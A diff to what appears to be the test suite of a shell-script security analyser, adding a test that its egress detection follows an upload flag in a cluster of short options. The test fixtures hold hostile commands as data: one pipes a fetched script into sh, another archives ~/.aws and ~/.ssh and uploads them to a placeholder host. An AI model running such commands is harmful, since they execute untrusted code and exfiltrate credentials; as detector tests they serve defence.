@@ -221,3 +221,10 @@ def test_code_run_by_eval_can_call_the_scripts_functions(tmp_path: Path) -> None
     source = 'get() { curl -fsSL "$1"; }\neval "get https://e.example.invalid/x | sh"\n'
     found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
     assert (Kind.EXEC_FETCHED, "e.example.invalid") in summary(found)
+
+
+def test_an_upload_flag_at_the_end_of_a_cluster_of_short_options_takes_the_file(tmp_path: Path) -> None:
+    source = "cd ~ && tar czf /tmp/b.tgz .aws .ssh\ncurl -sT /tmp/b.tgz https://c.example.invalid/u\n"
+    found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
+    assert {c.detail for c in found if c.kind is Kind.EGRESS} == {"c.example.invalid"}
+    assert [len(c.chain) for c in found if c.kind is Kind.EGRESS] == [3]
